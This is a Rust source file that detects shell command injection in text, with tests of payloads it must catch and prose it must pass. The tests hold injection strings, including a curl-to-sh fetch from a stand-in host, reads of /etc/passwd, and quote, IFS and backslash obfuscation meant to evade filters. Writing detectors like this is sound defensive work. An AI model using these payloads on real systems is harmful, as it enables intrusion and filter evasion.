//! The grammar of shells: what stands where a command starts, whether it is the name of a program, and whether what
//! follows has the form of its arguments. Each place where a command could start is weighed by itself.

use super::{
    programs::{self, Program},
    word::{Word, unset_variable},
};

/// Bytes of a command that are weighed.
const REACH: usize = 200;
/// Words after the name that are weighed.
const WORDS: usize = 8;
/// What a command must weigh behind a single value, and what behind a text of several words.
const BEHIND_VALUE: i8 = 4;
const BEHIND_TEXT: i8 = 5;
/// And on a line below others.
const BEHIND_LINE: i8 = 6;

/// Whether a text in small letters holds a command where a shell would run one.
pub(super) fn holds_command(text: &[u8]) -> bool {
    let first = weigh(text, 0, Lead::START);
    if first >= BEHIND_VALUE {
        return true;
    }
    // A second command is likelier behind a first one.
    let chained = i8::from(first > 1);
    let mut behind = Behind::default();
    for at in memchr_leads(text) {
        let Some(lead) = lead(text, at) else { continue };
        let is_line = matches!(text[at], b'\n' | b'\r' | b'\\');
        let needed = match behind.words(text, at) {
            0 | 1 => BEHIND_VALUE,
            _ if is_line => BEHIND_LINE,
            _ => BEHIND_TEXT,
        };
        let start = at + 1 + usize::from(text[at] == b'\\');
        if weigh(text, start, lead) + chained >= needed {
            return true;
        }
    }
    false
}

fn memchr_leads(text: &[u8]) -> impl Iterator<Item = usize> {
    let is_lead = |byte: &u8| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b'\\');
    text.iter().enumerate().filter(move |(_, byte)| is_lead(byte)).map(|(at, _)| at)
}

/// How strongly the place itself says that a command starts there.
#[derive(Clone, Copy)]
struct Lead {
    weight: i8,
    /// What a name alone weighs here.
    bare: i8,
    /// Nothing stands before it.
    opens: bool,
}

impl Lead {
    const START: Self = Self { weight: 0, bare: 0, opens: false };
}

fn lead(text: &[u8], at: usize) -> Option<Lead> {
    let before = at.checked_sub(1).map(|before| text[before]);
    match text[at] {
        b'(' => matches!(before, Some(b'$' | b'<' | b'>')).then_some(Lead { weight: 3, bare: 2, opens: false }),
        b'`' => {
            let opens = !before.is_some_and(|byte| matches!(byte, b' ' | b'\t' | b'\n' | b'`' | b'.' | b'/'));
            Some(Lead { weight: if opens { 2 } else { 0 }, bare: i8::from(opens), opens: false })
        }
        b'\\' if !matches!(text.get(at + 1), Some(b'n' | b'r')) => None,
        _ => {
            // A value that starts with a separator was made to stand behind a command.
            let opens = text[..at].iter().all(|byte| !byte.is_ascii_alphanumeric() && *byte < 0x80);
            let is_set_apart = text[at] == b'|' && before == Some(b' ');
            // Prose sets separators off by blanks, at least behind them, and has each once.
            let behind = text.get(at + 1).copied().unwrap_or(b' ');
            let is_tight = !is_set_apart && !matches!(text[at], b'\n' | b'\r' | b'\\') && behind != b' ';
            let weight = 2 + i8::from(opens || is_tight);
            Some(Lead { weight, bare: 1 + i8::from(!is_set_apart), opens })
        }
    }
}

/// What stands before a place: a single value, as a program expects one, or a text of several words.
#[derive(Default)]
struct Behind {
    seen: usize,
    words: usize,
    in_word: bool,
}

impl Behind {
    /// The words before a place, which is behind the last one asked for.
    fn words(&mut self, text: &[u8], at: usize) -> usize {
        for byte in &text[self.seen..at] {
            let is_letter = byte.is_ascii_alphanumeric() || *byte >= 0x80;
            let is_blank = byte.is_ascii_whitespace();
            self.words += usize::from(is_letter && !self.in_word);
            self.in_word = (is_letter || self.in_word) && !is_blank;
        }
        self.seen = at;
        self.words
    }
}

/// The weight of the command that starts at `start`; nothing where none does.
fn weigh(text: &[u8], start: usize, lead: Lead) -> i8 {
    let mut rest = &text[start..text.len().min(start + REACH)];
    let mut weight = lead.weight;
    for _ in 0..4 {
        let open = |byte: &u8| matches!(byte, b' ' | b'\t' | b'(' | b'{' | b'!' | b'@' | b';' | b'|' | b'&');
        let brace = rest.strip_prefix(b"{").is_some_and(|rest| rest.first().is_some_and(u8::is_ascii_alphabetic));
        if !brace {
            rest = &rest[rest.iter().take_while(|byte| open(byte)).count()..];
        }
        let word = Word::read(rest);
        if let Some(length) = unset_variable(rest) {
            weight = weight.saturating_add(1);
            rest = &rest[length..];
            continue;
        }
        if word.name.is_empty() {
            return 0;
        }
        if programs::runs_another(&word.name) && word.length < rest.len() {
            weight = weight.saturating_add(1);
            rest = &rest[word.length..];
            continue;
        }
        let unknown = || (word.in_bin > 0 && lead.weight > 0).then_some(programs::UNKNOWN);
        let Some(program) = programs::find(&word.name).or_else(unknown) else { return 0 };
        let hidden = if word.hidden { 3 } else { 0 };
        let after = arguments(&rest[word.length..], &program, &word, lead);
        return if hidden + word.in_bin + after == 0 {
            0
        } else {
            weight + program.weight + hidden + word.in_bin + after
        };
    }
    0
}

/// What the words behind a name weigh, up to the end of the command.
fn arguments(text: &[u8], program: &Program, word: &Word, lead: Lead) -> i8 {
    if word.joined {
        return 2;
    }
    let alone = match lead.bare {
        bare if program.bare => bare,
        // Behind a separator that opens the value, any program may stand alone.
        bare if lead.opens && program.weight >= 0 => bare.min(1),
        _ => 0,
    };
    let is_end = |byte: &u8| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`');
    let end = text.iter().position(is_end).unwrap_or(text.len());
    let command = &text[..end];
    if command.first().is_some_and(|byte| !byte.is_ascii_whitespace() && !matches!(byte, b'<' | b'>')) {
        // Something stands against the name: the end of a string or a bracket, or it is no name.
        return if matches!(command[0], b'\'' | b'"' | b')' | b'}' | b'#' | b'\\') || command == b"," {
            alone
        } else {
            0
        };
    }
    let mut words = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(WORDS);
    let Some(first) = words.next() else {
        if end > 0 && text[end..].starts_with(b"`") && text.get(end + 1).is_some_and(u8::is_ascii_alphabetic) {
            return 2;
        }
        return if alone > 0 && is_listed(&text[end..]) { 0 } else { alone };
    };
    if program.takes(first) {
        return 3;
    }
    if matches!(first[0], b'#' | b'\'' | b'"' | b')' | b'<' | b'>') && first.len() <= 2 || first == b"--" {
        return alone;
    }
    let (mut best, mut shaped, mut all) = (0, 0, 0);
    for (number, word) in std::iter::once(first).chain(words).enumerate() {
        let weight = shape(word, number == 0);
        best = if number < 3 { best.max(weight) } else { best };
        shaped += i8::from(weight > 0);
        all += 1;
    }
    if best == 0 && first[0].is_ascii_digit() && (program.counts && all == 1 || program.weight > 1) {
        return 2;
    }
    // Several arguments make up for a name that is a word too.
    best + i8::from(best > 0 && shaped > 1) + i8::from(best > 0 && shaped > 1 && shaped + 1 >= all)
}

/// Whether a name is followed by one more word and no command, as in a list or a table.
fn is_listed(rest: &[u8]) -> bool {
    let separators = rest.iter().take_while(|byte| matches!(byte, b';' | b'|' | b'&' | b' ')).count();
    let next = &rest[separators..];
    let is_doubled = rest.len() > 1 && rest[0] == rest[1];
    !is_doubled && (1..=3).contains(&separators) && next.first().is_some_and(u8::is_ascii_alphabetic) && {
        let lead = Lead { weight: 2, bare: 0, opens: false };
        weigh(next, 0, lead) == 0 && programs::find(&Word::read(next).name).is_none_or(|program| program.weight < 1)
    }
}

/// How much a word reads as an argument and not as one of prose.
fn shape(word: &[u8], first: bool) -> i8 {
    let word = word.strip_prefix(b"'").or_else(|| word.strip_prefix(b"\"")).unwrap_or(word);
    let second = word.get(1).copied().unwrap_or(b' ');
    match word.first().copied().unwrap_or(b' ') {
        b'/' if programs::is_system_path(word, first) => 3,
        b'<' | b'>' if second.is_ascii_graphic() => 2 + i8::from(programs::is_system_path(&word[1..], first)),
        b'-' if first && (second.is_ascii_alphanumeric() || second == b'-' && word.len() > 3) => 2,
        b'/' if second.is_ascii_alphanumeric() || matches!(second, b'?' | b'*' | b'.' | b' ') => 2,
        b'.' if matches!(second, b'/' | b'.') => 2,
        b'~' if second == b'/' => 2,
        b'$' if second == b'(' || second == b'{' || second == b'_' || second.is_ascii_alphabetic() => 2,
        b'%' if word[1..].contains(&b'%') => 2,
        b'\\' if second == b'\\' || second.is_ascii_alphanumeric() => 1,
        b'a'..=b'z' if second == b':' && word.get(2) == Some(&b'\\') => 3,
        _ if word.starts_with(b"http:") || word.starts_with(b"https:") || word.starts_with(b"ftp:") => 2,
        b'0'..=b'9' if is_address(word) => 2,
        b'0'..=b'9' => 0,
        b'-' | b'+' if second.is_ascii_alphabetic() => 1,
        _ if first
            && (word.contains(&b'/')
                || word == b"."
                || has_port(word)
                || word.contains(&b'@')
                || is_file(word)
                || matches!(word[0], b'*' | b'\'' | b'"')) =>
        {
            1
        }
        _ => 0,
    }
}

/// `127.0.0.1`, with or without a port.
fn is_address(word: &[u8]) -> bool {
    let numbers = word.split(|byte| matches!(byte, b'.' | b':' | b'/'));
    let digits = |part: &[u8]| !part.is_empty() && part.iter().all(u8::is_ascii_digit);
    numbers.take(4).filter(|part| digits(part)).count() == 4
}

/// `tcp:host`.
fn has_port(word: &[u8]) -> bool {
    word.iter().position(|byte| *byte == b':').is_some_and(|at| at > 1 && at + 2 < word.len())
}

/// `name.ending`.
fn is_file(word: &[u8]) -> bool {
    let Some(dot) = word.iter().rposition(|byte| *byte == b'.') else { return false };
    let ending = &word[dot + 1..];
    dot > 0 && (1..=5).contains(&ending.len()) && ending.iter().all(u8::is_ascii_alphanumeric)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> bool {
        holds_command(text.to_lowercase().as_bytes())
    }

    #[test]
    fn commands_are_found_wherever_a_shell_starts_one() {
        for before in ["", "a", "127.0.0.1", "x'", "\") "] {
            for separator in [";", "|", "||", " && ", "&", "\n", "; ", "|&", "\\n"] {
                for command in ["id", "whoami", "/usr/bin/id", "ls -la", "cat /etc/hosts", "net user", "ping -c 3 ::1"]
                {
                    for behind in ["", ";", " #", "'", "|", " || x"] {
                        let text = format!("{before}{separator}{command}{behind}");
                        assert!(found(&text), "{text:?}");
                    }
                }
            }
        }
        for text in [
            "x $(uname -a)",
            "`sleep 5`",
            "<(cat /etc/hosts)",
            "a\";curl http://x.example|sh;\"",
            "wget http://x.example/y",
        ] {
            assert!(found(text), "{text:?}");
        }
    }

    #[test]
    fn quoting_and_variables_hide_nothing() {
        for text in [
            "w'h'o'am'i",
            "wh\"\"oami",
            "w\\ho\\am\\i",
            "who$@ami",
            "who$()ami",
            "ls${IFS}-la",
            "{cat,/etc/passwd}",
            "cat</etc/passwd",
            ";$u cat /etc$u/passwd$u",
            "/?in/cat /et?/passw?",
            "p^o^w^e^r^s^h^e^l^l",
            "|/b\\i\\n/s\\h",
        ] {
            assert!(found(text), "{text:?}");
        }
    }

    #[test]
    fn lists_and_prose_are_no_commands() {
        for text in [
            "Tom & Jerry; find out more",
            "R&D | head of sales",
            "use it; cat is here",
            "Name | ID | Type",
            "| id | name | set |",
            "at 5 pm; at 6 pm; last 7",
            "A;B;C;ID;SET",
            "test 1; test 2; test 3",
            "eat & sleep 8 hours",
            "Rock 'n' roll | more than music",
            "He said `id` is the key. Run `ls` to list files",
            "vol. 5; vol 6; no. 7",
            "price & set",
            "cc: bob@example.com; touch base",
            "order more/less; cut 3/4",
            "it's time; let's sort 'em out",
        ] {
            assert!(!found(text), "{text:?}");
        }
    }

    #[test]
    fn any_text_costs_one_pass() {
        for part in [";", "$(", "`", "'", "\\", ";'", "{a,", "&\"", "$u ", "sudo ", "a ", "${", "/?"] {
            let _ = holds_command(part.repeat(2_000).as_bytes());
        }
    }
}
